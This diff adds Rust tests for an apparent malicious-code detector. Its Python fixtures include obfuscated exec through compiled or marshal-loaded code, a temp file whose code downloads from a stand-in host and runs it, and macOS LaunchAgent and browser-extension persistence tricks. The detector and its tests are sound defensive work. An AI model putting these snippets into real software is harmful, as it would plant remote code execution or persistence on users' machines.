@@ -32,6 +32,74 @@ fn exec_is_found_however_it_is_spelled() {
 }
 
 #[test]
+fn a_function_made_from_compiled_code_is_an_exec() {
+    let code = "import types\ntypes.FunctionType(compile('import os; os.system(\"id\")', 'v', 'exec'), globals())()\n";
+    let found = holds(code);
+    assert!(
+        found.contains(&"code.obfuscated-exec".to_owned()),
+        "{found:?}"
+    );
+    assert!(
+        found.contains(&"code.exec-hidden-code".to_owned()),
+        "{found:?}"
+    );
+    let assigned = "from types import FunctionType\nimport marshal\nf = FunctionType(marshal.loads(b'\\xe3'), {})\nf()\n";
+    assert!(
+        holds(assigned).contains(&"code.exec-decoded-payload".to_owned()),
+        "{:?}",
+        rules(assigned, Kind::Module)
+    );
+    // Copying an existing function is ordinary.
+    let copy = "import types\ndef f():\n    pass\ng = types.FunctionType(f.__code__, globals(), 'g')\ng()\n";
+    assert!(
+        rules(copy, Kind::Module).is_empty(),
+        "{:?}",
+        rules(copy, Kind::Module)
+    );
+}
+
+#[test]
+fn code_written_to_a_temporary_file_is_judged_as_code() {
+    let code = "from tempfile import NamedTemporaryFile as _tf\nimport os\nt = _tf(delete=False, suffix='.py')\nt.write(b\"from urllib.request import urlopen; exec(urlopen('https://h.invalid/p').read())\")\nt.close()\n";
+    assert!(
+        holds(code).contains(&"code.download-exec".to_owned()),
+        "{:?}",
+        rules(code, Kind::Module)
+    );
+    let harmless = "import tempfile\nt = tempfile.NamedTemporaryFile(suffix='.txt')\nt.write(b'import this')\n";
+    assert!(
+        holds(harmless).is_empty(),
+        "{:?}",
+        rules(harmless, Kind::Module)
+    );
+}
+
+#[test]
+fn persistence_through_serializers_and_browser_flags_is_found() {
+    let plist = "import os, plistlib\np = os.path.expanduser('~/Library/LaunchAgents/x.plist')\nplistlib.dump({'RunAtLoad': True}, open(p, 'wb'))\n";
+    assert_eq!(
+        holds(plist),
+        ["code.persistence"],
+        "{:?}",
+        rules(plist, Kind::Module)
+    );
+    let extension =
+        "def hijack(sc, app):\n    sc.Arguments = '--load-extension=' + app\nhijack(x, y)\n";
+    assert_eq!(
+        holds(extension),
+        ["code.persistence"],
+        "{:?}",
+        rules(extension, Kind::Module)
+    );
+    let in_a_helper = "def launch(app):\n    return ['chromium', '--load-extension=' + app]\n";
+    assert!(
+        holds(in_a_helper).is_empty(),
+        "{:?}",
+        rules(in_a_helper, Kind::Module)
+    );
+}
+
+#[test]
 fn decoded_payloads_are_exec_decoded_wherever_they_run() {
     let code = "import base64\ndef run():\n    exec(base64.b64decode('aW1wb3J0IG9z'))\n";
     let found = rules(code, Kind::Module);
